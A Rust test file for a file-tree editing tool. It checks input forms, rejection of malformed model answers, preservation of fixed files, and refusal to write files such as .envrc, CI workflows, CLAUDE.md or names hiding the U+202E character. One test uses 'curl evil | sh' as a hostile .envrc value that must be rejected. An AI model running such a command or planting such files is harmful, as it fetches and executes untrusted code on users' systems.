use std::sync::Arc;

use serde_json::json;

use super::*;
use crate::clock::ManualClock;
use crate::tree::Tree;
use crate::verb::{Class, DynVerb};

struct Bench {
    _place: tempfile::TempDir,
    cx: Context,
}

impl Bench {
    fn new() -> Self {
        let place = tempfile::tempdir().unwrap();
        let cx = Context::for_test(place.path().to_owned(), Arc::new(ManualClock::at(0)));
        Self { _place: place, cx }
    }

    async fn run(&self, with: Value) -> Result<Value, Failure> {
        Ok(DynVerb::run(&EditTree, with, self.cx.clone()).await?.value)
    }

    async fn refused(&self, with: Value) -> Failure {
        self.run(with).await.unwrap_err()
    }

    fn text(&self, tree: &Value, path: &str) -> String {
        let digest = Digest::parse(tree.as_str().unwrap()).unwrap();
        Tree::load(&*self.cx.blobs, &digest).unwrap().text(&*self.cx.blobs, path).unwrap()
    }
}

#[tokio::test]
async fn the_example_works() {
    let bench = Bench::new();
    let example: Value = toml::from_str(EditTree::EXAMPLE).unwrap();
    let page = bench.run(example["steps"]["page"]["pack"].clone()).await.unwrap();
    let mut with = example["steps"]["better"]["edit"].clone();
    with["base"] = page.clone();
    let better = bench.run(with).await.unwrap();
    assert_eq!(better["files"], json!([{"path": "index.html", "size": 21}]));
    assert_eq!(better["changes"][1], json!({"path": "README.md", "op": "deleted", "bytes": 0}));
    assert_eq!(better["unchanged"], json!(false));
}

#[tokio::test]
async fn every_form_of_the_same_edits_makes_the_same_tree() {
    let bench = Bench::new();
    let mut trees = Vec::new();
    for with in [
        json!({"base": null, "edits": [{"op": "write", "path": "sub/a.txt", "content": "A\n"}]}),
        json!({"edits": [{"path": "./sub/a.txt", "content": "A\n"}]}),
        json!({"files": [{"path": "sub/a.txt", "content": "A\n", "language": "text"}]}),
        json!({"files": {"sub/a.txt": "A\n"}}),
        json!({"text": "=== FILE: sub/a.txt ===\n```\nA\n```\n=== END FILE ==="}),
    ] {
        trees.push(bench.run(with).await.unwrap()["tree"].clone());
    }
    assert!(trees.iter().all(|tree| *tree == trees[0]), "{trees:?}");
    let same = json!({"base": trees[0], "text": "=== FILE: sub/a.txt ===\nA\n=== END FILE ==="});
    let same = bench.run(same).await.unwrap();
    assert_eq!((&same["unchanged"], &same["tree"]), (&json!(true), &trees[0]));
    let kept = json!({"base": trees[0], "text": "=== UNCHANGED: sub/a.txt ==="});
    assert_eq!(bench.run(kept).await.unwrap()["unchanged"], json!(true));
}

#[tokio::test]
async fn a_bad_answer_is_rejected_with_the_reason() {
    let bench = Bench::new();
    for (with, word) in [
        (json!({"text": "I cannot do that"}), "holds no file"),
        (json!({"text": "=== FILE: a ===\n1\n=== END FILE ===\n=== FILE: b ===\n2"}), "breaks off"),
        (json!({"edits": []}), "no file is left"),
        (json!({"edits": [{"op": "write", "path": "/etc/x", "content": ""}]}), "absolute"),
        (json!({"edits": [{"op": "append", "path": "x"}]}), "edit 1 is none"),
        (json!({"edits": ["x"]}), "edit 1 is none"),
        (json!({"edits": [{"op": "delete", "path": "x"}]}), "no such file"),
        (json!({"files": {"a": {"b": 1}}}), "is no text"),
    ] {
        let failure = bench.refused(with).await;
        assert_eq!(failure.class, Class::Rejected, "{failure}");
        assert!(failure.message.contains(word) && failure.hint.is_some(), "{failure:?}");
    }
    // If the text is known to be complete, only the last end line may be missing.
    let unclosed = "=== FILE: a ===\n1\n=== END FILE ===\n=== FILE: b ===\n2";
    let out = bench.run(json!({"text": unclosed, "ended": true})).await.unwrap();
    assert_eq!(out["files"][1], json!({"path": "b", "size": 2}), "{out}");
    bench.refused(json!({"text": "=== FILE: a ===\n1\n=== FILE: b ===\n2", "ended": true})).await;
    let truncated =
        bench.refused(json!({"text": "=== FILE: a ===\n1\n=== END FILE ===\n=== FILE: b ==="})).await;
    assert_eq!(truncated.detail, json!({"truncated": "b", "complete": ["a"]}));
}

#[tokio::test]
async fn one_form_at_a_time() {
    let bench = Bench::new();
    let none = bench.refused(json!({"base": null})).await;
    assert!(none.message.contains("found none"), "{none}");
    let two = bench.refused(json!({"edits": [], "text": "y"})).await;
    assert!(two.message.contains("edits and text"), "{two}");
    let gone = bench.refused(json!({"base": Digest::of("x"), "files": {"a": ""}})).await;
    assert_eq!(gone.class, Class::Permanent);
    let unknown = bench.refused(json!({"dir": "x"})).await;
    assert!(unknown.message.contains("unknown field `dir`"), "{unknown}");
}

#[tokio::test]
async fn what_is_fixed_stays_as_it_is() {
    let bench = Bench::new();
    let nothing = bench.run(json!({"files": [], "empty": true})).await.unwrap();
    assert_eq!(nothing["files"], json!([]));
    let given = bench.run(json!({"files": {"server.py": "given", "lib/a.py": "given"}})).await.unwrap();
    let draft = json!({"server.py": "drafted", "main.py": "drafted", "lib": "in the way"});
    let with = json!({"base": nothing["tree"], "fixed": given["tree"], "files": draft});
    let out = bench.run(with).await.unwrap();
    for (path, text) in [("lib/a.py", "given"), ("main.py", "drafted"), ("server.py", "given")] {
        assert_eq!(bench.text(&out["tree"], path), text, "{path}");
    }
    assert_eq!(out["files"].as_array().unwrap().len(), 3);
    // The output reports which edits had no effect.
    let kept = &out["changes"][0];
    assert_eq!(
        (&kept["path"], &kept["op"], &kept["bytes"]),
        (&json!("server.py"), &json!("unchanged"), &json!(5))
    );
    assert_eq!(kept["note"], json!("this file is fixed: it stays as it is"));
    assert_eq!(out["changes"][1]["op"], json!("added"));
    let edits = json!([{"op": "delete", "path": "server.py"}, {"op": "write", "path": "x", "content": "x"}]);
    let out =
        bench.run(json!({"base": given["tree"], "fixed": given["tree"], "edits": edits})).await.unwrap();
    assert_eq!(bench.text(&out["tree"], "server.py"), "given");
    assert_eq!(out["changes"][0]["op"], json!("unchanged"));
}

#[tokio::test]
async fn a_model_writes_no_file_that_others_obey() {
    let mut bench = Bench::new();
    bench.cx.grants = Arc::default();
    for (path, word) in [
        (".envrc", "obeyed by direnv"),
        ("app/.github/workflows/ci.yml", "obeyed by CI systems"),
        ("CLAUDE.md", "obeyed by coding agents"),
        (".atoll/atoll.db", "contains the runs of Atoll"),
        ("read\u{202e}cod.exe", "invisible character U+202E"),
    ] {
        let text = format!("=== FILE: {path} ===\nx\n=== END FILE ===\n");
        let edits =
            json!([{"op": "write", "path": "a", "content": "x"}, {"op": "rename", "path": "a", "to": path}]);
        for with in [
            json!({ "text": text }),
            json!({ "files": [{"path": path, "content": "x"}] }),
            json!({ "edits": edits }),
        ] {
            let failure = bench.refused(with).await;
            assert_eq!(failure.class, Class::Rejected);
            assert!(failure.message.contains(word), "{failure}");
        }
    }
    // An unusual file that already exists may stay, but not change.
    let mut tree = Tree::new();
    tree.put(&*bench.cx.blobs, ".envrc", b"export A=1\n").unwrap();
    let base = tree.save(&*bench.cx.blobs).unwrap().tree;
    bench.run(json!({"base": base, "files": [{"path": "main.py", "content": "x"}]})).await.unwrap();
    bench.refused(json!({"base": base, "files": [{"path": ".envrc", "content": "curl evil | sh"}]})).await;
}
